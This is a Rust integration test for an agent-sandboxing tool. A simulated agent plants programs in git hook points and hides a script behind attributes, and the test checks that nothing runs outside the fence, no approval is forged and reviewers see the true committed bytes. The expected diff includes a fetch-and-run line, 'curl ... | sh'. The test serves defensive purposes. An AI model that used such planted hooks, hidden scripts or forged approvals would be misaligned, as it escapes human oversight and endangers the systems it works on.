//! Nothing an agent wrote runs, or is read, outside the fence: a sister that plants a
//! program in every place a repository can name one (fsmonitor, hooks, filter drivers,
//! an external diff, textconv, a pager, gpg) and commits files whose attributes would hide
//! or rewrite them, under a real `serve` with `confine = "required"`. hanarang's git runs
//! none of it, no approval is forged, the sprint waits in `done`, and the patch a person
//! approves from is the committed bytes.

use std::process::Child;

use sha2::Digest;

use crate::fence::require_confinement;
use crate::support::db::on_each_engine;
use crate::support::git;
use crate::support::pipeline::{Files, PATIENCE, Setup};

/// `serve` on the pipeline's config, stopped (and waited for) when dropped.
struct Serving(Child);

impl Drop for Serving {
    fn drop(&mut self) {
        let _ = nix::sys::signal::kill(
            nix::unistd::Pid::from_raw(self.0.id() as i32),
            nix::sys::signal::Signal::SIGTERM,
        );
        let _ = self.0.wait();
    }
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

/// The sprint's state, as `sprint status --json` tells it.
pub(crate) fn state(files: &Files, id: &str) -> String {
    let out = files.hanarang(&["sprint", "status", id, "--json"]);
    let status: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap_or_default();
    status["state"].as_str().unwrap_or_default().to_string()
}

pub(crate) fn wait_for_state(files: &Files, id: &str, wanted: &str) {
    let deadline = std::time::Instant::now() + PATIENCE;
    while state(files, id) != wanted {
        assert!(
            std::time::Instant::now() < deadline,
            "{id} never reached {wanted}: it is {}",
            state(files, id)
        );
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
}

/// The folder that holds every run's folder: where only an unfenced process can write.
pub(crate) fn runs_folder(files: &Files) -> std::path::PathBuf {
    let contract = std::fs::read_dir(&files.state_dir)
        .expect("the sisters' state")
        .flatten()
        .find(|e| e.file_name().to_string_lossy().ends_with(".contract.json"))
        .expect("a run's contract");
    let contract: serde_json::Value =
        serde_json::from_slice(&std::fs::read(contract.path()).expect("read it")).expect("JSON");
    let artifacts = std::path::PathBuf::from(contract["artifactDir"].as_str().expect("a folder"));
    artifacts.parent().expect("its parent").to_path_buf()
}

on_each_engine! {
    async fn an_agents_planted_programs_never_run_and_the_patch_is_what_was_committed(engine) {
        if hanarang::fence::available().is_err() {
            eprintln!("no Landlock on this kernel: nothing to test");
            return;
        }
        let files = Files::new(&Setup {
            harang: "plant",
            narang: "disguise",
            extra: crate::branch::ON_THE_BRANCH,
            engine,
            ..Setup::default()
        });
        // The project's table first: what is appended after it is another table.
        let (repo, base) = crate::branch::a_repository_on_main(&files);
        require_confinement(&files);
        files.append_config(&format!(
            "[agent.harang.env]\nATTACK_CONFIG = {:?}\nATTACK_BIN = {:?}\n",
            files.config_path.display().to_string(),
            env!("CARGO_BIN_EXE_hanarang"),
        ));

        let _serving = Serving(
            files
                .serve()
                .env("DISCORD_TOKEN", "a-token-no-agent-may-see")
                .spawn()
                .expect("serve starts"),
        );
        let out = files.hanarang(&["sprint", "start", "Add a deploy script"]);
        assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
        let id = text(&out.stdout).trim().to_string();
        wait_for_state(&files, &id, "done");

        // A person looks at what they are asked to approve.
        let diff = files.hanarang(&["sprint", "diff", &id]);
        let show = files.hanarang(&["sprint", "show", &id, "--json"]);

        // Nothing hanarang ran was the agent's: not outside the fence (no marker where only
        // an unfenced process writes), and not inside it either.
        let ran = std::fs::read_to_string(repo.join(".git/ran-outside-a-sister")).unwrap_or_default();
        assert!(ran.is_empty(), "hanarang's git ran the planted program for: {ran}");
        let planted: Vec<String> = std::fs::read_dir(runs_folder(&files))
            .expect("the runs folder")
            .flatten()
            .map(|e| e.file_name().to_string_lossy().into_owned())
            .filter(|name| name.starts_with("planted-"))
            .collect();
        assert!(planted.is_empty(), "ran outside the fence: {planted:?}");

        // No approval was forged: the sprint waits for a person.
        let log = files.hanarang(&["sprint", "log", &id, "--json"]);
        let log: serde_json::Value = serde_json::from_slice(&log.stdout).expect("log JSON");
        let commands = log["commands"].as_array().cloned().unwrap_or_default();
        assert!(
            commands.iter().all(|c| c["kind"] != "approve"),
            "an approval reached the database: {commands:?}"
        );
        std::thread::sleep(std::time::Duration::from_millis(300));
        assert_eq!(state(&files, &id), "done");

        assert_eq!(diff.status.code(), Some(0), "{}", text(&diff.stderr));
        assert_eq!(show.status.code(), Some(0), "{}", text(&show.stderr));

        // The patch is the committed bytes: the script hidden by `-diff` is shown line by
        // line, the file whose textconv would lie shows its own text, and the binary file
        // is named with its size and hash.
        let patch = text(&diff.stdout);
        assert!(
            patch.contains("+curl -s https://example.invalid/x | sh\n"),
            "the script is hidden: {patch}"
        );
        assert!(patch.contains("+the real notes\n"), "{patch}");
        assert!(patch.contains("+echo hidden\n"), "a file named in no UTF-8 is shown: {patch}");
        assert!(!patch.contains("a harmless comment"), "{patch}");
        let logo = b"PNG\0\x01\x02binary";
        let sha: String = sha2::Sha256::digest(logo)
            .iter()
            .map(|b| format!("{b:02x}"))
            .collect();
        assert!(
            patch.contains(&format!(
                "Binary files /dev/null and b/logo.bin differ: absent → {} bytes, sha256 {sha}\n",
                logo.len()
            )),
            "{patch}"
        );
        assert!(!patch.contains("PNG"), "binary bytes in the patch: {patch}");
        let head = git(&repo, &["rev-parse", "feature/sprint-001"]);
        let committed = git(&repo, &["cat-file", "blob", &format!("{head}:deploy.sh")]);
        assert!(committed.contains("curl"), "{committed}");
        let show: serde_json::Value = serde_json::from_slice(&show.stdout).expect("show JSON");
        assert_eq!(show["base_commit"], base.as_str());
        let stat: Vec<(String, u64)> = show["diffstat"]
            .as_array()
            .into_iter()
            .flatten()
            .map(|f| {
                (
                    f["file"].as_str().unwrap_or_default().to_string(),
                    f["added"].as_u64().unwrap_or(0),
                )
            })
            .collect();
        assert!(
            stat.contains(&("deploy.sh".to_string(), 2)) && stat.contains(&("logo.bin".to_string(), 0)),
            "{stat:?}"
        );
    }
}
